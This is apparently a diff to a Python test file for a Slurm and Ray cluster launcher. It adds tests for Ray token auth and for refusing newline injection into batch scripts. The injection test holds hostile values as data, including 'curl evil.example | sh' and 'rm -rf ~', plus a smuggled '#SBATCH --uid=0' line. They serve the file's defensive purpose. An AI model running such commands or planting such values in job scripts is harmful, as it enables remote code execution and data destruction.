@@ -52,6 +52,40 @@ def test_the_batch_script_follows_rays_slurm_pattern(tmp_path):
         check_shared(SlurmJob(recipe=job.recipe, run_dir=Path("/tmp/amalia-run"), nodes=2))
 
 
+def test_the_batch_script_starts_ray_with_token_auth_unless_told_not_to(tmp_path, monkeypatch):
+    """Other users of the allocation's nodes can reach Ray's ports: the script turns token auth on with a token
+    file only its owner reads (made once per run folder, or the site's RAY_AUTH_TOKEN_PATH); --allow-no-auth is
+    the one way to start it open."""
+    import stat
+
+    from amalia_ray.cluster.slurm import auth_token
+
+    monkeypatch.delenv("RAY_AUTH_TOKEN_PATH", raising=False)
+    token = auth_token(tmp_path / "runs" / "x" / "slurm")
+    assert stat.S_IMODE(token.stat().st_mode) == 0o600 and len(token.read_text()) == 64
+    assert auth_token(token.parent) == token and token.read_text() == token.read_text(), "made once"
+    job = SlurmJob(recipe=tmp_path / "r.yaml", run_dir=tmp_path / "runs" / "x", token_path=token)
+    lines = batch_script(job).splitlines()
+    auth = lines.index(f"export RAY_AUTH_MODE=token RAY_AUTH_TOKEN_PATH={token}")
+    assert auth < next(i for i, ln in enumerate(lines) if "ray start --head" in ln)
+    open_job = SlurmJob(recipe=tmp_path / "r.yaml", run_dir=tmp_path / "runs" / "x")
+    assert any(ln.startswith("export RAY_AUTH_MODE=disabled  # --allow-no-auth") for ln in batch_script(open_job)
+               .splitlines())
+    monkeypatch.setenv("RAY_AUTH_TOKEN_PATH", "/etc/site/ray_token")
+    assert auth_token(tmp_path / "other") == Path("/etc/site/ray_token")
+
+
+def test_a_control_character_never_reaches_the_batch_script(tmp_path):
+    """A newline in a value written to the script (a run folder from `run.output_dir`, a module, an sbatch argument)
+    would start a line of its own — `#SBATCH --output=/x` then a command. Refused, naming the value."""
+    bad = {"run_dir": tmp_path / "runs\ncurl evil.example | sh", "modules": ["CUDA\nrm -rf ~"],
+           "sbatch_args": ["--mem=0\n#SBATCH --uid=0"], "until": "sft\r"}
+    for field, value in bad.items():
+        kwargs = {"recipe": tmp_path / "r.yaml", "run_dir": tmp_path / "runs" / "x", field: value}
+        with pytest.raises(AmaliaError, match="a control character"):
+            SlurmJob(**kwargs)
+
+
 def test_the_stop_margin_covers_a_step_and_a_checkpoint_planned_or_measured(tmp_path):
     """The stop is seen at the end of a step, then the checkpoint is saved: the 9B recipe's pretraining (a 9.9 s
     step, a ~22 s save of 108 GB at 5 GB/s: 108 s) keeps the 120 s floor; once the run has measured slower saves,
@@ -144,6 +178,8 @@ def _chain_of_two(demo_run, recipe_path: Path, tmp_path: Path, cluster: SlurmClu
 
     script = (run_dir / "slurm" / "job.sbatch").read_text()
     assert "#SBATCH --signal=B:USR1@120" in script and "#SBATCH --time=00:30:00" in script
+    # its Ray ran with token auth: the token in a file of the run folder only its owner reads
+    assert f"export RAY_AUTH_MODE=token RAY_AUTH_TOKEN_PATH={run_dir / 'slurm' / 'auth_token'}" in script
     manifest = json.loads((run_dir / "manifest.json").read_text())["stages"]
     assert [k for k in manifest] == ["data", "tokenizer", "pack", "pretrain"]
     assert all(r["status"] == "completed" for r in manifest.values()), manifest
